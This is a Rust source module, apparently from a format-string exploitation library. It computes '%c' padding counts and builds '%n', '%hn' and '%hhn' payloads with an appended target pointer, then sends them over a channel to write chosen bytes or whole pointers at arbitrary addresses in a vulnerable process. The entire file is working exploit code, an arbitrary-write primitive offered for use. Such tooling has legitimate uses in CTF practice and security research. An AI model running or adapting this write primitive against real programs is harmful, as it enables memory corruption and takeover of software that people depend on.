//! Partial memory writes through `%n`.
//!
//! `%n` stores the number of characters printed so far, and by the time it
//! fires the target has already printed one separator. The `%c` repeat
//! count is therefore the desired value minus the separator length. The
//! `hh` and `h` length modifiers narrow the store to the lowest one or two
//! bytes; bytes above the written width are left untouched.

use crate::calibrate::{self, Calibration};
use crate::channel::{round_trip, Channel};
use crate::config::Config;
use crate::error::{Error, Result};
use crate::fmtstr::{self, FormatStringInfo, Specifier, WriteWidth};
use crate::leak::Leaker;
use crate::pointer::{Pointer, PointerMaker};

/// Writes 1, 2 or 4 low-order bytes at an arbitrary address.
#[derive(Debug, Clone)]
pub struct Writer {
    config: Config,
    info: FormatStringInfo,
    maker: PointerMaker,
    calibration: Calibration,
}

impl Writer {
    /// Calibrate against `chan` and build a writer.
    pub fn new<C: Channel + ?Sized>(
        chan: &mut C,
        config: Config,
        info: FormatStringInfo,
    ) -> Result<Self> {
        let read = calibrate::calibrate(chan, &config, &info, Specifier::String)?;
        Self::from_calibration(config, info, &read)
    }

    /// Reuse the calibration of an existing leaker.
    pub fn from_leaker(leaker: &Leaker) -> Result<Self> {
        Self::from_calibration(
            leaker.config().clone(),
            leaker.info().clone(),
            leaker.calibration(),
        )
    }

    /// Derive the write layout from a read calibration.
    ///
    /// Write templates are longer than read templates, which moves the
    /// appended pointer by whole words. The length is sized for a
    /// `max_write` count so that every write shares it.
    pub fn from_calibration(
        config: Config,
        info: FormatStringInfo,
        read: &Calibration,
    ) -> Result<Self> {
        config.validate()?;
        info.validate()?;
        let maker = config.pointer_maker()?;
        let max_count = config.max_write.saturating_sub(info.separator.len());

        let mut aligned_len = read.aligned_len();
        let param = loop {
            let param = read.param_for_len(aligned_len, config.pointer_size)?;
            let worst = fmtstr::write_template(max_count, param, WriteWidth::Byte, &info);
            let needed = fmtstr::stack_aligned_len(worst.len(), config.pointer_size);
            if needed <= aligned_len {
                break param;
            }
            aligned_len = needed;
        };
        log::debug!(
            "write layout: parameter {} (aligned length {})",
            param,
            aligned_len
        );

        let template = fmtstr::padded_write_template(0, param, WriteWidth::Int, &info, aligned_len)?;
        Ok(Self {
            config,
            info,
            maker,
            calibration: Calibration::new(template, param, aligned_len),
        })
    }

    pub fn calibration(&self) -> &Calibration {
        &self.calibration
    }

    pub fn pointer_maker(&self) -> &PointerMaker {
        &self.maker
    }

    /// `%c` repeat count that makes `%n` store `value`.
    pub fn adjust_num_to_write(&self, value: usize) -> Result<usize> {
        if value == 0 {
            return Err(Error::Bounds("write value must be positive".into()));
        }
        if value > self.config.max_write {
            return Err(Error::Bounds(format!(
                "write value {} exceeds max_write {}",
                value, self.config.max_write
            )));
        }
        let emitted = self.info.separator.len();
        if value < emitted {
            return Err(Error::Bounds(format!(
                "write value {} is below the {} characters printed before %n",
                value, emitted
            )));
        }
        Ok(value - emitted)
    }

    /// The line that stores `value` at `ptr` with the given width.
    pub fn payload(&self, value: usize, width: WriteWidth, ptr: &Pointer) -> Result<Vec<u8>> {
        if ptr.width() != self.maker.width() {
            return Err(Error::Pointer(format!(
                "{} is {} bytes wide, target uses {}",
                ptr,
                ptr.width(),
                self.maker.width()
            )));
        }
        let count = self.adjust_num_to_write(value)?;
        let mut payload = fmtstr::padded_write_template(
            count,
            self.calibration.param(),
            width,
            &self.info,
            self.calibration.aligned_len(),
        )?;
        payload.extend_from_slice(ptr.bytes());
        Ok(payload)
    }

    /// Store `value` into the lowest `width` bytes at `ptr`.
    pub fn write_at<C: Channel + ?Sized>(
        &self,
        chan: &mut C,
        value: usize,
        width: WriteWidth,
        ptr: &Pointer,
    ) -> Result<()> {
        let payload = self.payload(value, width, ptr)?;
        let reply = round_trip(chan, &self.config, &payload, &self.info.terminator, || {
            format!("write of {} ({} bytes) at {}", value, width.bytes(), ptr)
        })?;
        fmtstr::extract_leak(&reply, &payload, &self.info)?;
        Ok(())
    }

    pub fn write_lowest_byte_at<C: Channel + ?Sized>(
        &self,
        chan: &mut C,
        value: usize,
        ptr: &Pointer,
    ) -> Result<()> {
        self.write_at(chan, value, WriteWidth::Byte, ptr)
    }

    pub fn write_lower_2_bytes_at<C: Channel + ?Sized>(
        &self,
        chan: &mut C,
        value: usize,
        ptr: &Pointer,
    ) -> Result<()> {
        self.write_at(chan, value, WriteWidth::Short, ptr)
    }

    pub fn write_lower_4_bytes_at<C: Channel + ?Sized>(
        &self,
        chan: &mut C,
        value: usize,
        ptr: &Pointer,
    ) -> Result<()> {
        self.write_at(chan, value, WriteWidth::Int, ptr)
    }

    /// Write `bytes` starting at `ptr`, one `%hhn` round trip per byte.
    ///
    /// Needs `max_write` large enough for a full byte cycle; every value is
    /// checked before the first line is sent.
    pub fn write_bytes_at<C: Channel + ?Sized>(
        &self,
        chan: &mut C,
        ptr: &Pointer,
        bytes: &[u8],
    ) -> Result<()> {
        let emitted = self.info.separator.len();
        let values = bytes
            .iter()
            .map(|&b| {
                let value = emitted + fmtstr::calculate_padding(emitted, b);
                self.adjust_num_to_write(value).map(|_| value)
            })
            .collect::<Result<Vec<_>>>()?;
        for (i, value) in values.into_iter().enumerate() {
            self.write_lowest_byte_at(chan, value, &ptr.offset(i as i64))?;
        }
        Ok(())
    }

    /// Write the encoding of `value` at `ptr`.
    pub fn write_pointer_at<C: Channel + ?Sized>(
        &self,
        chan: &mut C,
        ptr: &Pointer,
        value: &Pointer,
    ) -> Result<()> {
        self.write_bytes_at(chan, ptr, value.bytes())
    }
}
